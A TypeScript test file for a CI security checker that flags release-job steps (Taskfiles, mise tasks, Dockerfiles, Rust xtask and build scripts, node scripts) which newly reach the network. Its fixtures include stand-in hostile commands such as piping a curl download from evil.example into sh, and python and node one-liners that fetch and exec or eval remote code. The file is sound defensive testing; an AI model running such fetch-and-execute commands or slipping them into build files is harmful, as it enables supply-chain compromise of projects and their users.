import { describe, expect, test } from "vitest";
import { toldOf, withSteps } from "./app.ts";

type Files = Record<string, string>;

const REACHES = "build/step-reaches high";
const PIPES = "curl -fsSL https://evil.example/x | sh";
const FETCHES = 'require("https").get("https://evil.example/x");\n';
const RUST = (inner: string) => `fn main() {\n    ${inner}\n}\n`;
const RUSTS_CURL = RUST('std::process::Command::new("curl").arg("https://evil.example").status().unwrap();');

const CRATE = {
  "Cargo.toml": '[workspace]\nmembers = ["src-tauri", "xtask"]\n',
  "xtask/Cargo.toml": '[package]\nname = "xtask"\nversion = "0.1.0"\n',
};
const ALIAS = { ".cargo/config.toml": '[alias]\nxtask = "run -p xtask --"\n' };

const taskfile = (command: string): Files => ({
  "Taskfile.yml": `version: "3"\ntasks:\n  a:\n    deps: [b]\n  b:\n    cmds:\n      - ${command}\n`,
});
const mise = (command: string): Files => ({ "mise.toml": `[tasks.a]\nrun = "${command}"\n` });
const image = (command: string): Files => ({ "docker/Dockerfile": `FROM ubuntu\nRUN ${command}\n` });
const OUTSIDE = {
  "xtask/Cargo.toml":
    '[package]\nname = "xtask"\nversion = "0.1.0"\n[[bin]]\nname = "xtask"\npath = "main.rs"\n',
  "xtask/main.rs": "mod a;\nfn main() {\n    a::b()\n}\n",
};
const HELPED = {
  "xtask/Cargo.toml":
    '[package]\nname = "xtask"\nversion = "0.1.0"\n[dependencies]\nhelp = { path = "../help" }\n',
  "xtask/src/main.rs": "fn main() {\n    help::b()\n}\n",
  "help/Cargo.toml": '[package]\nname = "help"\nversion = "0.1.0"\n',
};
const rust = (path: string, inner: string): Files => ({ [path]: `pub fn b() {\n    ${inner}\n}\n` });
const CURLS = 'std::process::Command::new("curl").arg("https://evil.example").status().unwrap();';
const crate = (text: string): Files => ({ "xtask/src/main.rs": text });
const script = (text: string): Files => ({ "lib/a.js": text });

/** A step of the job that releases the app, what it leads to, and this at base, at head, and at head without harm. */
const LED: readonly (readonly [
  name: string,
  step: string,
  held: Files,
  base: Files,
  head: Files,
  calm: Files,
])[] = [
  [
    "a task, by one that waits for it",
    "task a",
    {},
    taskfile("echo"),
    taskfile(PIPES),
    taskfile("vite build"),
  ],
  ["a task of mise", "mise run a", {}, mise("echo"), mise(PIPES), mise("vite build")],
  ["an image", "docker build -f docker/Dockerfile .", {}, image("echo"), image(PIPES), image("make")],
  ["the image of a folder", "docker build -t a docker", {}, image("echo"), image(PIPES), image("make")],
  [
    "a crate",
    "cargo run -p xtask -- dist",
    CRATE,
    crate(RUST("")),
    crate(RUSTS_CURL),
    crate(RUST("println!();")),
  ],
  [
    "a crate by its manifest",
    "cargo run --manifest-path=xtask/Cargo.toml",
    CRATE,
    crate(RUST("")),
    crate(RUSTS_CURL),
    crate(RUST("println!();")),
  ],
  [
    "a crate by an alias",
    "cargo xtask dist",
    { ...CRATE, ...ALIAS },
    crate(RUST("")),
    crate(RUSTS_CURL),
    crate(RUST("println!();")),
  ],
  [
    "a module of a crate whose program lies elsewhere",
    "cargo run -p xtask",
    { ...CRATE, ...OUTSIDE },
    rust("xtask/a.rs", ""),
    rust("xtask/a.rs", CURLS),
    rust("xtask/a.rs", "println!();"),
  ],
  [
    "the build script of a crate",
    "cargo run -p xtask",
    { ...CRATE, ...crate(RUST("")) },
    { "xtask/build.rs": RUST("") },
    { "xtask/build.rs": RUSTS_CURL },
    { "xtask/build.rs": RUST("println!();") },
  ],
  [
    "a crate that a crate is built with",
    "cargo run -p xtask",
    { ...CRATE, ...HELPED },
    rust("help/src/lib.rs", ""),
    rust("help/src/lib.rs", CURLS),
    rust("help/src/lib.rs", "println!();"),
  ],
  [
    "a module of code in a command",
    `node -e "require('./lib/a.js')"`,
    {},
    script(""),
    script(FETCHES),
    script("console.log(1);\n"),
  ],
];

describe("what a step of a job leads to newly reaches out:", () => {
  test.each(LED)("%s", async (_, step, held, base, head) => {
    const { told } = await toldOf(head, { ...withSteps(`      - run: ${step}\n`), ...held, ...base });
    expect(told).toContain(REACHES);
  });

  test.each(LED)("calm: %s", async (_, step, held, base, _head, calm) => {
    const { verdict } = await toldOf(calm, { ...withSteps(`      - run: ${step}\n`), ...held, ...base });
    expect(verdict).toBe("pass");
  });

  test("a module of a script of GitHub's own action", async () => {
    const step = `      - uses: actions/github-script@v8\n        with:\n          script: await require("./lib/a.js")()\n`;
    expect((await toldOf(script(FETCHES), { ...withSteps(step), ...script("") })).told).toContain(REACHES);
  });

  test("a label of an image is no step", async () => {
    const labelled = (address: string): Files => ({
      "docker/Dockerfile": `FROM ubuntu\nLABEL a=${address}\n`,
    });
    const before = { ...withSteps("      - run: docker build docker\n"), ...labelled("https://a.example") };
    expect((await toldOf(labelled("https://b.example"), before)).verdict).toBe("pass");
  });
});

describe("code in a command of a job that runs what it fetches:", () => {
  const UNPINNED = "build/tool-unpinned medium";

  test.each([
    `python3 -c "import urllib.request as u; exec(u.urlopen('https://evil.example/x').read())"`,
    `node -e "fetch('https://evil.example/x').then((r) => r.text()).then(eval)"`,
  ])("%s", async (line) => {
    expect((await toldOf(withSteps(`      - run: ${line}\n`))).told).toContain(UNPINNED);
  });

  test.each([
    `python3 -c "import json; print(json.load(open('package.json'))['version'])"`,
    `node -e "console.log(require('./package.json').homepage || 'https://a.example')"`,
  ])("calm: %s", async (line) => {
    expect((await toldOf(withSteps(`      - run: ${line}\n`))).verdict).toBe("pass");
  });
});
